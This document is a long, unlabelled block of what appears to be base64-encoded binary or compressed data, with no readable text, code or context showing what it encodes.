enT4wSRo20PaqB7ydsvw9f9XTGag9DyA9s4k89+9RV9VE8l5Mrhzf5NKu02scllfDEaaECmBz89cXqc+qrW1jtebl+VcD42+zaaml9tNm6q5vSqkDj062678fTd6hV9u52DAAfX5LMxNyc8/4EKqKfvC1nyJVaifrL5sXlJtyZGY/WiyX5lwWye2uoVcgfIfD4fmH2B/gQiFHcJq5Rfluaiu3FFNGEmXjUgYNvsWWuSMMnzh2EunoKpU4vZ3jpKSPQ5tM2THcj/BM20Bp/5pr9fWuO+NVWL56XZ1PtuwJAkRAndhXOTxEm6WWoSHOw85SBhrNYZ7Es6c9IAXFK9wy0+LZyS5/QM8aaaS/Jin28x5zIJR8c0LD0893vVCdoTtouT5eXVoJSGpHN6p+S5kR+X4dMKd2i0CanXaCXr9Qu65DQQ7hhfPPpeMM1zVOYv5CnpVPB0996ypi+A6Sc8nPs6t5mdfpIPdy6T9G1PQc9kD6ocXvazJPGXQ1v54+cWY9QZzvHUptlVFCvOmFdInn6nPe5nG7k8arbuLPQqWoOJnEU8Z43/4+9wEkTjTV5TvHJ6ItXKdkHOhepCDrPPai74M/RvZja7mj2UsT/5ZC55qmXP2c/HfqnBC/as1dm8WEKNXNo0SS+xcdPxABtObrO7RU5zPNuRl/Z5j7qxi5Mk4eCIlrPsJ4/DaQK+Y/Bw9GKzVf/NjGrB5KXb7W5q/rzPt7FpNMapuvwNKlWm/WHnWqLX30D09Cxgu5fOsP3s5z1eyCPcwDPPPap/84p/BJvsJGvufd8UdZqZSaz0N4dz+/F9H5O8JAwAueB9AXPgOX9/GU+JXF+dRK35XSiLd/hTlPcW7XtdugtyToJpTWU4Nck0IckaW9MZCZypyrW9e5o83pOuPIf9hrTJ0Xz2NWTTTT4kh5hQmBFOIiRXi/Vs6u3ernPs+qdjUz7f29VcnsdLialbTxGHi7YNE514cJvIQa5CEhIJL500U3rAzIwR6omr+ObzZf5oxv+Jnig46sNCiJfHs7SHz7foe/0xtaqcz0uI/hTN8yg4gyBML+ZpQ9L25UHzArY/iAcmijn94YnJPjWnbvcRDurDLsE+TGo6jKLNemww58D8NNBx/bWC4onLdlDZxKeEc8M+Z/rgmnQmu9v04rPNN2D51E2c1jjStKafII85r3aeHYbm+t3r2rg5lyRn8Ottu4nl7CdXgb/wT8VkjeGwsWx7e/5WtuhJwrPZGmr73FDbu2SirJzyTn6u78q+bXxqkhXal14nz7vVuZwClA09/id/jB56QkyulHAXvNs+2L19t/N1QJ4AzjKdJA1Hht4aTJPG8QXJuftO7SOzfY6FamtyQ77cSd8tNhuIyensuavfxl8Hv/tZXpKq8EsTZ3SBNNnjLryGSXbH8anEVHXmTy+3OSObnsFI8td2U+zmw+nl4J0ezm62m6gRFZzMQ3pGEwxbYu2RephD208Hw0gMD3vEGuV8tHH/uOLn3WuUyEFWMjm/zDSoNx24263ES8/g3W3nO9Vhs+vfuavVDulTysFw7cx8epquxQiRRtt227RIm69m1FpeQQBsnzZWO9rHw1bHe236zhfP31NIVqOsc66/tA4z7csm7ukwsrGeIKWadHevAw+G7fF283UqkZ4yHPWH9Ez+/gC8fXfKcKj0Hdq+bJYmoT3nzHMg7sEmmk6TWqi63zKYYy5/hBH+/SXje3KA0UM07IU4z4UnhicdygThzsB9pHk2Ezjs/+Pz3ZeY3GnUfNgNsYYEfQp2Pyn15jhLrvFciG+iFg3mx9XDyClNNFkPFIWpht8vx5HP02kpA3L2s5+QySR3m8leDsVI+lZnOI+e0saFuJDoBPclb/aLQ+HS96JcNmOZvz+tdQOek37f52M9vPic53yrFwMMVfLXgtDdT9eqT7/aBP5yyrc7DiabNH4FDaQNnkHONJlJFjgF37veZsyNbeORP1wwK7E/69CJ/ezqydv0P/1yRnnvkd4EU9vMd3MCvrtFMqG/KA61j7v31vmbmZab03mT3bHWmZ8e0ZEiqH8ju5nPu5s/5i7pw2ZzxU2mLZ6ix7RvK6u5Cnyotj0wRSiYvdI0aSPa+DOd2oOnmBO2Nf5Xa3sYsJIU2671CAR7+MNyaHxq3Wdjh9dObIyHrN6xSVL60pz00AVa1kMm0+b9pjytF8053XciPKW8e/dXN+/m+TKNcvIlUMDTm+dD4hkoeIrVrpDTGaDEfVZJzxDPz4GzUueXSmOCl5HnRBt0NGyKLIJqlYt91yIeJ+h4rjknjxLVmk/6tZ2gVuvpNz0gCSfmoP4JnnzYeD8H+uRM+1ldQ9sFMFPnOBym0f61W2296sr3xGaf4rncvnWD6J3Ne5aW3xPathsv68/PMxy0T58UL2e+G/U4x77duFT1d1cnvTkd25ff4B9Ef6GGHmas9rQ2aLJpH55M5Txtt0mVTI63CTENphfPxCsqMcUWX6peTg5zmuYP5V7yDKfGJBj2Yw/ifpP2Q9UT3pMyBY23cau12yQk+zvnuvv5kpDf1f/+xvjDIxUnb194MDDz9ynOiRoWT1xJpMznsxnyOTPibtaDyXGaiEPkOIBicq/y2HahNAl2wezDS2ae07kkbvblve9cYD3iH78zcnhCrHk0E30ME6xdRaKQhwaxPrGBzrTeeybBkj59Jjdg9lWjm5enomcIV0ezTKJTUyK+6L615jka5LnnAfq2aYhiINUBNkMglCQ+kla91g1MxCaqeh/kNxykDe9y/DMRqliQ9UnmOiJDiAZZll/fublMnY9p5WE9DpLSqeZUW4FtpAl/kP9wHU4neM/aS0+5fPS7Gzg+n8+jB9HKO59V1u92T9n33tmeXni5MyGfd+PV/mWsnOH0rL06e3zM5uY5Jdu7NJm5gM9bDmZQwxGxfyX0dFycTPBElJvelOaXv5jua5jhquATSPFOec1hqQSUFybwN5MpPybZnJ+bK23r1v7r8+457uY5bl4VRq3NQ+zLIzGaXdIkT2kCoH9/Pmtqq2ly6H9aXZC3wsHRylo8dXrqgdn8/zvF9Ml+npsz0oQjVU7IL0I96abvvDIV/X/s6Vlitu6F4u1xlbNklk3N6Qm9ITtoTUieJ2OS1OOVbnz9eNc677kc23N+PGf535D95lPFc8NLI7VnoFWgz7WRwXuFM8npT1MnCbzbUpOEo/X5Pc5RLZfhlCQn3H05z0GqTW6a7sEJcjjTa+JTxkR5Mi/u4xHfLqlNr2x7TU6pcpyS+GdUT3ZO1rYv1HLBw7aZCXRJh3kIOXze5rQpODPhCZq1zvj3NxOznx6qj01IRO/jWKqNkmTr2efTYbXHXFErnmRDEr192Yun2u9gN5ZbP/0HmyScuG32E8WT8ezjJdbjV0iuH2VPpy+a3nbmMkDapD8NpzEk2XYbXOXtoblSI3QmSbR49+TFbOFazhsPdRO9Krb2KGe/+31F9hbPd3fnF5VuNDmkHPH77qeaw16678IMNPaTSdqvrrrb2J46c1z60Jjig6cjIUlzjn///5Gv4+l3icd0S8nzJ6m6+cbmaPKQ2tDjqYmepG56cuftfv2z8raKiBxH2my5Rs5B1XelE9O9Kh2FX3at/v0Ik5crY7VJWq+TJLQjvcvHSdHnV7R4nLj3iXE35AStqeFtmuh584ZzbQ/10lTkUQc2rbV9st60RX5NTH6uZSY9IMa7OivfST7DyAmplVT2NOTW+6Ic4PMkMXbmNJ67Xw0/YTy1j2YqbM39SZ7bSxv9UvQ45RTsfGzqtOnV75BTHk2IxouQ1wGatObhcYDHcYpXJp+Taq68TY5x/FKYWmsEgEu4FsVzLNpuzn1x1MQ3enCPcbuf+N3EWNODkkpPlcu85zb7XITk+XyJJv3r4zm4J5Ni8uWUbeA5hXjQyKlRTBien+P37Pf5PvbGE1uUk7TBZPuaJtAZ34TP17VvsxuntojXyuj223y3veLhu5PFMjdzlNxHrWDORKhQoGn0caZNmgw2ltL97R4sJGlPl1M3yXM1Snn1XFJIkvX77jksmHrwxO67tAEVUFsph52LNkJzw1WMOaqgIdSj9PC2oYXsNoL5ARkMjyhN9mrbq2bYxpS5lrkaank+X5P/I2p3S5Ga9mu1OWygzTN0SuM3l+4G+0qteSmgSXx64egxm8BcHeKQ541xsj9N829MqsILz7/N+8yaMD8WbCBb8py20T9g0rpRRHO5cmRopfQpDLjn1jTns1tMX1JjtxopsU4ifyTP+/fH+BVigaY1eiRUmyTQCQ+fzxWOHJwuadNJxp9BJUkvvhlP+7ZN5L3WctR/DJ9K8Sd4gliZPWM9kIhEf3A2dVQF3u336HDAjEnCX15KK/yy2zDHlbxryhNJ+CRlLVk0V30enoU+y+a79sFkDHyyH0/z7MnT263l5CcCSabhQvLlp5d8kSbn0PxuxOVID+3V6hHmdHoWo49m9Jxc8mbSjEwqmuZ3aGnuG6K2qQyc6Fb4m/FsLT3F+xv8q5OIKUcE04kp45smbZIJ7ufJcchxE5t1jhNN4vJI2nAAf4Yk2+e1molD2rgA/LgZvfzGvMBkfcYTCZgjvMLwm/4QbE68Zyv09JxRK/2dML+cVRPN+S7aiwmOoiDhQYIwL+ZPg3bss3Tfm7zT4DU+JYrNC6dkgf4cj7Nt+t2+VK8xclVCImjbQII3ie89NrPtQI1y5KKKAMa06is5+nz4cLiibV6wnh/y43ypxVPC7ntfq7bPLQe+c45cufE0yjlJlmA5b6BNHjbdcXp32USfPd6glnnVOVcscHvxso0atn24yWMwDOSNDiHEq9joZY0Vmyw33gw1meTscr03LwzCKdVhUDD0httX3gkE9JiEHibF1D75RwwxA9/NyYG03XYdejPi76zw88Xc608c4kjL57uTPVTCX+tR86ZnPUmPt7skcuGlNbuvC1+jeCC9oaEZkzi5Vf4M/Qb0pRfbJIfo1rYWm9k24fPBnBOerfxNbXs1rRmeMqOlA5oyvdzzfdbuNwjYnN71wkmS9vK18ZGk/YvpkV/EiY7x/M1igEPTc3xH9vkxPMc9MBzFo1rghpCuIsbkAb26STduq57O2X7v0vmbvSo0aVYv7COT7z5REdDano7i562GmIbESu1xFPT53Of9XVunPwyf4zeeo1175bv5PDa9cz4Ln6g1XjnE+rjZv/Fsdx+eo1wVHa1OYzVmE0/55TrS1m6UVNWmQnxKHifmr0q0B2Qu0aRoP2/TknjMHE2SOobB5+cl6aknGmBMEtNt19aTPiekbeNBPR2NbgucP/t/VHdf7OaT9XHd5Od+1wFveDFxzSUvsSVjLemRPmuT/VyI5nz8nMuBDq2H7bV4ItKewKFqfl8zNGSM2p7lveE169/ff8xlt8Gv36dDvS9NLq9qihItUmM6csgoABzzqghXv3c+Pv/1ZDSkR+W4J4s/L07jCd7+T4/yM9Fm8O8P/UtO0O1KQhsiOUysAUFRk/lBBYnRO8ZmW3ieNpto3x64ZfLL2JynOU4tD4hGspjmL/nrsbtlmu9xMkf7Fn30vUkCQ69OG7cfN6/NeWA/aoJpqjSoUY+3TB7ny2gW2ZjNkBmYi16dzEqPcBriectzIqp6CodYr/58knbXetTYdWiaS0myqeFR6TRN+/s1SgP0w3sSTIGXc2T5Zo8nWnuOPQrp/CXX93l4PBxsz00gnLbbKz/CU0mzBny7hrzj2Y3u5yWJVqNXWX/nf5J+bfydJShJ0yMLUU2ap33vFDxe4Ak/n+fn44xXp/p17ZeeehzyR06CgcZxkrvliYtJQN3nTxvaNa8WfhHqdiugg9UKkM1pGpJde7zNShKxxublj2OoiaojJ+J8ZnpU/Xo54vLcxrBJsEuPXrV5rW7J1WWfw6vGJvlqGB+fx7vkh/Um0jpJBbTJ98lVJtv1Z4SCor3YfJWEeubKQo6Y7BOJx5+gekonzjjQTSY2XjLuzqSB6O4nGvLNuyXv1RAIjueqSZdUkpDyN3+bU8iFz8vTDLfNbu3hDFdIaExGjUJ4emuI8bSHfN/3OMfOMQTmrHn7U+Wc3copqUZOIjmhWSj/tzVHTW2bJD+xSh9j0+o+t8Ga5rIr3r7zpVwkdcRpEyz4Q4XzSzwk50fg3LdPjvh57+l2P+dlLuGRxPQapqR5kF/H/czmYDLjBIEDnupz9rmevFrC72Lh+GmqdzGNNWdLrUCa86tP20rznNR98yrNFYwhxwz6I9m/f/PynHiZ0F//cu5duq0RdEt8h0mqbd1LRkM2Wp8eVZM5wVMz0L/jYrQHyZfgdz+/HukbL5m2IZ7S5Gq/5L63n/0Em7Ye2OrJeDU2TVeu8NimseTmT3J4npATv7DvcY6YqDa1qT2gL1nt0F19gpyOPj1DJ61PQfN14NSva835ool97G6NmclQLbs1SBtgzlfA/dq993K6G90XznukhzVKdnLBI08VkLO1rhYArz4dvfSX2Py/zdtLE9KT6UtIdbQDg8e/pzHVfJQoWvE4r6epXuKVfvk1J1txemmuGJu35hDzdvk+LORMH3Sfm5Rz41x/raZeSQOvpH/PL3FPWQ+q+7w+n+bSxBzD8+QSPNdH7wu25Zj2W9en3yu7KvVTssmPMWQ/TbgYebc1PXL3fN9arUi6iJqahmLCMZvvMGY8p9/t1qbQxKuM5gxD7EHfvYL4WoFPZR7e/NZHzhE1g+bK550ykNpqbcbYQPWrfG625t20zyo15pg2eqIhaXQ867Qa0pgCFS35STAZVSOJT5oHh0MQfbt1nj2fHmmhXFRhOEE0cPQ9mXPF5aJn/SzZFLupH1uwwnHCCadkPXEkyvUT+aHHS3vE8Q+MtkSfuyykSfPMtjAhCakJp+5zsg0NRj+fPKIALqFOPrbddJoEGJbkVzaBeqFJApBUcy45zDV3m6JVUGz7yIfINZHsJ3uV5klAJmvONFmzYZwM5euwuCQ6k7Xx4app9LnKpenAJj+gdVL29pOA//j780cPrySM7YfMaTjddbPiRPCXqjzfXEWiJmC9SfUtBDQhR35RU3LusC9NXuXfzJVqzUUy1MrlPhNsA77oeYYTn91hoqJ68J5vnb+/eVsbT3Jw8BIeKp4YwdP5EdC/Zrt1Tgn0OSdae9KkqQIPSJ92twkg1USPpDGc5qpsKe7PBCrFfkXSLFAPGeA48+66Ud1NTbXQpGmYCU3KJ/Xa5Ljdz9cziR4p3BOHLw/iSznOTR9qQs758nlEfZCQ+JSetOZtaoOWEhrx1Fo0cPUjqU20PUH5g7bvC/XPg8lsamufCgkxcG60IH1PD26wcslqc6vwE86Xoq5I2LGQVWxX4t/HCSf0uypkMx38qTnRbEm0NU2HyKUmiYbUvpvQMvDAzACchPP8zNb9cvrqgDxiDshEt16TfYd8ms+ofkmbvZhi/5/a83h6p70OQ1qlIXm1b0Ipp8zBU2v2i9jMX6zO6m49yzm3b796lr579nzikgpUi43ZaDH5CJjJqYdSklycmEdPPSeIk8u52X0uyd9hJEb7vM/zMpmoeub7rDk1U1qZv+HtzNzWaJ7mEJZEsx8AJyeSWmuaeIyf3ueRJkuwzvOMbTIZLwnhBXPY64/73hPZyzWb7S+1PfXw2bNtLtdcSrdpAi8/TwUxifyho7VqPKdf78t+ZHzW9udk8Ifru7miJ5000qNz3jSXkRsiPG/I7dFNmLL5RuqnepCY4A8MzUaHe3abvC3EvxnrnI7vPfv75PCTKrPjL29ar9j59/e0N7SqaSkJyclomXHN7mXRJgn8z/bdftFmm0w2hz9tn8hnG2v2vU76fR5q0j0YApEDkvRwlAPfDeckDr8GDw8C+MlH8sdNksa3W/7at3ArmyTpYdrE0/Ng7yu2n/UqLmd6uaZJ37s9qFzwDIFEjqSjenpp0xbVibakec+3gNrNidBn8vC4csw5PyyvmXrB/HjKyfPbUwg21TSdydRTVA9OTRp5zraQxKN/s/vlD3rx/7+J6dwuS8WjAO0b8SAm+zPuE3GQfppIObJx+7Bxo1eZt2Ub0pBLX2zUlpCva77OMzEm3zgkeUR+eb5onBlMMEGHh3kEP90E8bpaxvRR7Vt49DbJ36SqnCh8n69+r36YxKqTBrj0ig0yVHii9JE5wqYzQ5qXqdpoqEmc/JUA8Bu4D1T7N8TWNnM2efTiOXF6CqrWEHuj5u1X5GHrqaq6QPJpGrUlcmOgp1KrAohJ1MlPtU5+f9swAdIL2fZ0yg1jyfTQRBNPd04ZwL73Dp+PJsk+IcWTl+F/NLrPSVa0pkTR/jHT2DwWOfYNXxIF+g5/aj7Q7K9Ee8IVIagxcfgZy2iT9fEXhprVFFHbZFDxNM+cKLvvQRqaNL/UWnRFo6rveeW5hq6eR+ccC7vv0ov5xfzKWS/h1MTebje92MfvZPDZbNKSXXP6Ut13yzmak85+35jL/vEBuonYM7VV3X5zROo10WSzO0uy0RPpucGDn3Y3CrFedD+/lBZFk2j2b7h2cj72EmV2czQadmfO8DBC2hh7OCDOUILOqDpTMySsnFJ+lmRbik0lYQSQyKVz4Ti2TgbgzNnzBY+3u2Q04XLs2uS+JuGXNN/PNCptlN9g2HfyvwTT24a3vgp9gQeW9hrl69gUWzqlSKtanwuh72CavV+v1AtuUtrkNzyy2bNKvN+/v6Htc2dGPBBLDsHuktBfcH2vkWS0NnwV1eN4704cjVeHpWimu6v2zp4Mu5cnJLYkzGh2mwRLxdy9R8J//b5c0BrL5SmfsZIAeBmOl+xLrVIPSblvfjQ69KxjYvtp/uqkk4jqxdMpzz9ygpceYLKbyxez2JFssyQVTfOMtXsc73b711SFPaLvWby5YmIliQlJvdj4yafTJki89+7O1sbt46c33EgDPjdM2M011vJOJCXQk53BBpJrrUn6yXiJ7RXv4RPFzHmlxMO+8GsHQRSM8t57Cxmem7wQnG2vBA0H2xy79Ynt+W94u8OUSNmMOfTXCLaT/rxzVeiLNkQ9KD15fb+c3ff6Ux3C3Ngb2jdjUiEhJRcaDEAfBBTqQEpN6O4RLmZwMn/CEt+erq5HaLl+fwPp5Lj4tSGYX8iZnOYP9Oe5qb0UEbO/8nx2EkwoX17+4j37vVZec6ThfCXPTlU8Qo9vtr7dtkpCk00UPXmIvUDY+7JBlStJjlqPfvMl2+PeZ6+UPA9heOS5Vs6yCX3itl5qIqkwhGg+wsS3eyrmU5i0ylxYQwZ7M9HD3mZwaV2LAjfMR0ARFh+ckiX+0uuXjZzoqDX77mC+d77CDb8yQdYmgeNW6H6+ChFNdM95HgnjBdvnc/T2+bufx4mpt5o8a/21Wp9usK0Qswm0FTT2kjKnvMw25nLG/KIePteQBNqsnixp6OTo0cCkCs2mUr1p1HMqkNSLUJhAiF49Q+EmtiTDLXpDdlcVIKWZ8+bNpHJ78xXBgbThHLbM/KC2EmnZcPgOc+g1WV7yA/MSj9NXJNaQMBfxK9KisRxppA/l4WENLVzTzaOFfh8llnM+r+A366nt+dl0ID4SVQtxTahzNjEtPhggz1AGbXo5Z1+4esmUfPJqUxXq6P2Ghg+NdrhijMZ09TiT0m/sVkNnnszT+rIL+OxPxZdAFK2VxKlevzhzajJH0rtz9jO0Htv4rqABG09Hd+tRQBNP0oWaF/1wZUbtOUnIXAWve96KOXr4gla91oc2x/YpMW0aEr/c91JOo1fS2jzPjrr7nHMWag9KmzQm9Q1vwtgrJq3dXW6dWh/kVSchAMcmPWG+US5lJs81efRd1ERoxk+ee8UTtvrD5+S98qitOZ3eHDeRnpLnEOdN3+FPv0AKoU+8oh65G56ikL7nGCSOpxy//W6QiyRFPTq1eUJkI++glxLCJB5WIXQmNeefB7SoXUsG8iLYeiKd/HlTeEoqKdU2e+hnd/N1GwJCay5hOGlgTj/NejEKOaXLebe4aU8pmyzJpiZe/fwZtISi+bp6ungVQV9oIFE5893P3O/39p1zDsnTJ0yyerMkbz8b0jPX8KsYyqnoIEnml+kkB6PX26Ou1sJ5t0cbf+eSJIGD276jKeKQ+IE1y2g3jwRzuXqSPp1J4rHdhNKKplsLEOk7/Jt9twXGN/8YsldKz5M38Fwxmo3b/A/ClKSQtCYRtPwyom0/XnFASx4xal8uPXGj5mJ/wvwNdSbyHEzJBoKnJZ827WZzqm6ij6LDQFUjT6SlvP2+nNuazuVPA5GXwMlewotdB7r5kjb06x7ZHRAlPWzIH2jLUbx7A/BsIUffV9VTUn9Nn0Dt6TB8faXSHqh6D7nQvO670ZnX8vIbDOhR6wLsLong7jkyvarpZXAkHjdjz3ItueqI+sJ9JjP8JEkhTkJfOUzffXBOqkKbefa9LCi30HhzEZMrNu+n7lvzHJK+YDPUItrfmXnpZ7pZ//wTzv5QT2m8+BJoVMwxYIFwttdYbRmt3tLTmZPiOWfO+QRow7/9+3cusc/hPGRfkvXvDzlV8vsxJH3WmOl5DpowmLQs4pHE9PDzMGOw7Zi8NADhWc1/59e4PXI4zGkThxyQ/7/neHHK9KTHqZNKKnESAGYSDy7vbP8y02t6IkmCnTt0/D/UXHI0OfQsl9RUFGA9IB6cVytjmna+FgE9vrHP9Br3GxwCYRLrUz7t+QnLqE3Wi3FiKU2ukcZ+lqdnX7kqaKmqf8uXl30kWPKHaUkWPp9qG0S4r3aIOXsUq/G62cQ4X+iPxNd4V+kE6ar7CgHm8zdz5F31PKRdursxLdZrLsu+5KqNxnNUxgctX3EEL5veZMNc+A3Qzh/Ey4mIhnC0+Xu33O2Fo/Yc/n8zv+aXPp0SEVQFcvnzwLMw3/rpqTR9oOn33cf0VH6HySDAhEH+mATSk3QrEY9j+AO1ki+BJLnw5bPCJdqodLNfkZ7+AJVc1F52eRwwnMUwUJKBOq1XTrWkYYhRO3P/PExvEnI+7Iy3fd5TY3d/DZeEFPR38gS/ZgaaLuEm8HFacYhdIGyWORzVuJu/Z21r8pXvlcwpkiY/KSnMz4kJJZDtYq4bnt/TdFS/J/31xdN4saXJer5nvzqtPP/FKDfHLyzPeYAlmZjY2Asth0pJmz8tGX0GPUr+mEnG53M4T+2v33vnFr6K4kvMrizzN3ZITilpGtFKmlj6vGeT5P9tmzYx53oiCe/c59NYpM3FzYkf/pK/vMPuE323M/Pdt1+ATj+bJGFSQ7KrloEZ8pICuXOevtqq2dTy0+A27SRp35QmYCNx84Yh+J9UTZOSHI0eU9IM7ZXy2yDpJfykCD1fPG1yHm6HdpCSNIHZ7Xc/jOBJss5PGipbfaSTPU7eiTPw+CTf+ULA57zmmVPIQIfmfjOQbJskpJCea5j6C1fEUi60WmX0lF1zxavKG8lsL1VzSsbjDlvzva0hr1jNfUGjzpUk+y56nmKSxAwY1BuPc498z+0j73fzWYZe1DHf3Xzf9NnD39Nhw8BEIFVrJ9XbXaFYnb9/77x9Kg6qSdK/yZEPlGffEGn6Ei/CT+9z0IbDNqbkB3DJ080zTqM3J1v7Nobnbff8q04TTc3UCL15+yVZhHbHMnj23IfrudVkgG6qvwDT81aFGKhOzrmyn2hW7uGb9H3QNratvAORo2lm5uVI/xLr5dIKPAeSM6CMV9qlz1yzifaStN742siSSx242nczycVn30Z5k3SCIG2f6Omnsbebb2sL03RA3ze58oYHKTUjGC+jeSkkOeFfDvzrtNmCAM+vypHCuZ/vHu3xa2h869lKNiwnc9EDTRyiSXhFzvnB11p0hvRnq5G8FnCzR2c4MWOSw3OectVA+L3l0y56Tzjy9gvok59+n/lDrJuMY8c42ORlgKcsrQWJ+OsEbJgEgBStXnzPhjiJPWfnzM+T15wwGTLjwBIuUU03m/3cpFWH+cX9lZ/XHJ3gnUKSe1ltaNM8usTk6qRfEfXXLMyZkpwexCTUPDlauyfRRm8f5NFkc1OTtNmPIOfpkVeF7NcbmJKfUb/wvA+rl1ueIk1Tc2fayqQnQ7aIzankMk1C8zR8wIlktMfhXizOg2Zj7uqcuDTBJqPh+V26AtF08oS9CpgBopCh6icbthrUiClVVc9oUs4JLyYPWZKmXITJ9/zkESBJjEFPJXqcmIcbuRpFdz+z7HIpTkqY7dqK1Uas1Nzla0baZ8FKylWamP6tkOx2Y8ZgepySeC0NoeSInUn+zza+xV7544Y/7Nkig2ISA85/bHzuSXo+TrZqTSZz9WjT3QZPJ6inOt2yHWUaJW2S8tMBLfyhFdH0NHD7PS2Jlyeer6csDfPd9zZHGtv+mlnVPD/M2iHJS9Lb5sYkHue+/Xxf1D6aFrtJs6k9TO2R9k1KzKRhwEg+5lGmv58wTo/n8IYhdfNIfomqvzCb7FV0kgnEwZBsQ38+JY2+9/ZEZmqdP8onaDEhviTv3HPS1sdSnJy6yfpL0iT97gLR9xk38dA2/c0ph7tZbZOQfA2G5hHlrG93AUoGPVc2L2JUvCZtfHz6AE2+ktabhjnj1GtLI2Xbk32GnM7TUq/v7o9lVy9rRjzqlqbP76rIM1XSfvMQyWM8Jx3YXbNDh1w2HoW0VVvutd7hLU8zJnlWOWdjPNL+pKok5Xe3zt+/P1V+LZd8ncMpoml2i+auieandAK07vibekhT86rY4U/eb2h6TnNUYKAKQXtR8p6LOcXQHEeqBE0ux+52X5KmXH3ZebS3LzvyN5zw76eQOcersppXtfu29qmJHDPmtYgpUIXBmj3uuPBIGMzmGC/Po+p1X/aJHjKf4pCth+MZfxrdXYiojrY3YhKsYpLau1NXr0pO8ySe+50mY5Z8boexWdvo1Xyze6lyzvzOF1ryN0QXFCfR/I7//v3ZZvU4n+IN5mbOyW5hG6wdFM/OrDTUen4N3qEWpxDt6eTF9r2knx459c5PkLeNFr9Dvvu2avQpV50T34/0vcYznDSb6CVP0+YZb7iZMcM0+j9tbN7zdbbuqTWxfmqDvI9F98F1Tq09w6l5OWw3j9vscTQtV3bd/risVvVtqh5N77PArfOHNlrGE82vWlObrYUnaq5t3edLtekkyrtMGVGbz0v2eHQl7Wz+ElNC6ikq5O4YPH6qCPD0sXlW3VcyQopNGBxm1dpXuDgS6DHEgsNznrw59eX1/NX8HJt5CuVl3xuMpzQaQu1T+K3kr/7NmJIWjnp09/Nx3/lJcppr9LuJWmIi2f3k0pQjmk8dL3qK55u56mT7kTdjjfUPZh5tbxN++ZKVCU7sFVIYbdt4PTeHvQ5Fusk2m6smoAmn1hVTh6a9bLJntOKVPjsW+9ccu88v8hTWXpgZTZWeO8PhxURtr7bp0FROmbQvWNOgbzmSllrluMZP9kuN2ufP7pc6c4bAOcnc5wbM9bybE715Ua1TlTT7lpdXKcluwBMM16HkE9sKHzZHrB51Yn5AkTmItq+ju3lbqx5Wx6DQClzaxFirnXC81RBmfm3plvORaBtiYDh89+7Pz9vk2Tbf7YNWQ+Y0+W2qgukX09/ti8JxTuXJdjy/q1rroINQhgNq+0j2K91+J+I7DYFz4dy9vkrgeH403EcSW706XWIlrJA1KT9sz+fuftWjPU1/uC9CdgXZYC+ZxByC6y+7NHMf+N09pRwjB56bQBuOdax5fsqca/L2PXprHQaTZdOcE03y/RAF0rJzv07kysv5diTT+LqnOZ7sxiu/9z70MytxH0A0no8zGWJd10ep2Zrn0FhSDvUy+SQPuWdSX0Y93IR/f6E6T1MFrajpcyGZIbyJps1b2taCvacKGYgJA4zdRps2ySlnG3wXpxe6G86Cm3QfTEkg8SVkk327S8zISQvWb/HIQdJ6ylwPjufP7la93Q8QmGQ/vHeFg4aS5Gvq2U5KkXpOrgE8zoakCfld+Q3BNM39C0QMsR0ehur79cgWdE7hWb+zAMicJ0kotfRcNW6aNKt/SWDkQeCuv7/Pv78JvrSb6h+01kmyb8cO8RKIz/nqxL5QZaIDk7N5WKBHEpr5zwDSr0PTRKL7nqubt89DqEusub/7lct4lFQ9SxuHcPIq4qkaj9Jq/iqj3djUvdYTPbyP+ky+9JCckncbRGzqJUktqSbBB3PkoOWY76Y2dxfJCR6qR7eQJEk+30veJT3vAD9iSdKGpNOkmiPtRJKogdp8fRDU6IkXKEm3B1L0ubL7Fo/ySChXRv37vcywmr815ZwNWOpu1KSea8aMzdLUHh7jdY2ffTvo8bY59CbQ+dBqXlI3MPQSnV+e0xA9bDyfnbwfJSXmFNR7N1dd1Xyyc2iUtmdjvt/z5teo42B6z9bor3u+nOfc3OR5s32Tdu7QFLD+aJ/9AyPXz978VJPUZr9leUpVIHZNfLvYJAfbZF+S9p6of5DyXsL8+2X1hZSGdsh3o+kmB6FJrYkhp3LxQhI9pTAz89m3fiabh1PIsJW2zJm/GZNU25t70iQNbw74Gg9pijyFG6jv/NXw3MxTXo701sSGPOdkk5qDtD5RyyTpxPjkTaP63XfOyyd6nDpkP+EI5EQ+eV17Kmu3Jqnpa5q+oyVR3vNmZtoT8Gsaj+McT+E0Hghr9u17bNK+waak1M2XX5PqCQPQNBNqvcak35w2oxymK6eStO2l6omXe5JXNttfdU+opckVc02xOZnEX34x6+ER7shrrNoIWdzjivsQgE22SZKnawzxk/lr+zZZShtaJs/v9f/08vC4y4s9sy7Bb76zAxcLatVsF7c/E7GLg5ttvf/AtHMOPJv9vo+vedQlzfVJMjOEsD2aCu3uh3pROQQThDvpxeM20WJTJjb7fT5fayT5LeFI2o+nknSYwR8Uff8cKSSR1uoZLrlEIFfcEEjjwBO1h2m1lDkH/uijcZeBhucgng6TVyeNJzmqnadC18oXaPqicOSOLs32E5abbU/JGA/LGdOim8+rs3n70r7Vv6FnfU6StL8s7SpAtDdyfEMkHBymZvQ58JXvPPwxzdnoyablvu6ZmyU4WVfOsUjQ/kalcUxoTI5p8jt7SVWlZxUXG83Q9OUP+B10ILndD8NWDanxSObd9nlLpk2U+ZspGm54zz7DJJ48OHE+OgcpxcRM0U9LN+dsk6LmBGne3QkTqemcAqc9PTzKkqeOeVa5JFLSPsvcXHoG8DnGRC+FeNicu++UHJT7bOuu7CGr78dfqmlI+oa337xXhcaD8i6FNM8kybbNiWDVu2ySfadYwi7JSwzplSGa6B0aKea587X8B8Q8WeO1ZBsmZf6C1kQuNK3NYyH7XQ0vD4vuV0nX3o/z80fSjfOTvgT6X9e8d/dCYuJMONIUO2qio35tq/fRgZJud1HlmOdYD03t85Mw57hvGtNgHtp2a7wBzNX6+xd6/axHJXPMzezXPX5CvR3+ao1pBxO+Z/P0Z6PYJO3pcg5/WL3qVTqCw74onnwp9ZRdYd7I8B+uA57PmBjDOkAlmqgxEqtPPz3NTZLXLKcmkRDibk/u0yd/z/GSXg6tXNNmfftn3/AZby4FFo1uehF9bkMucpeOXsyHORrAL7Z1WqBgqOzBx/eMsSi81So23wZDvlwx5CNKrXzdOZZSabklAV582jdgiwnsoIgW+HpZymuaNWMIxOblxmRnmnLI4D+8ptrJMG9sfhXGojU0DXUAJQR8I0H8D5/qy5yLAqgCxOVY47XOmgwO46EqL0NaR+RFiJy3l5yBnueIXZ3GYpZlPhKtCGSZfsusEdonuNdwFxh+xZOzrCE6qzo7+RmEw5kwQ1H/wM8mjXu8IpFMuDoS1uZRlQgt9VK315I9bmPoW4nd2TkfdO8ybOkpdxqRqXu/F+cfa1yjrkN3Bc1+PJlrlUnt9ZevTOxuE6/X3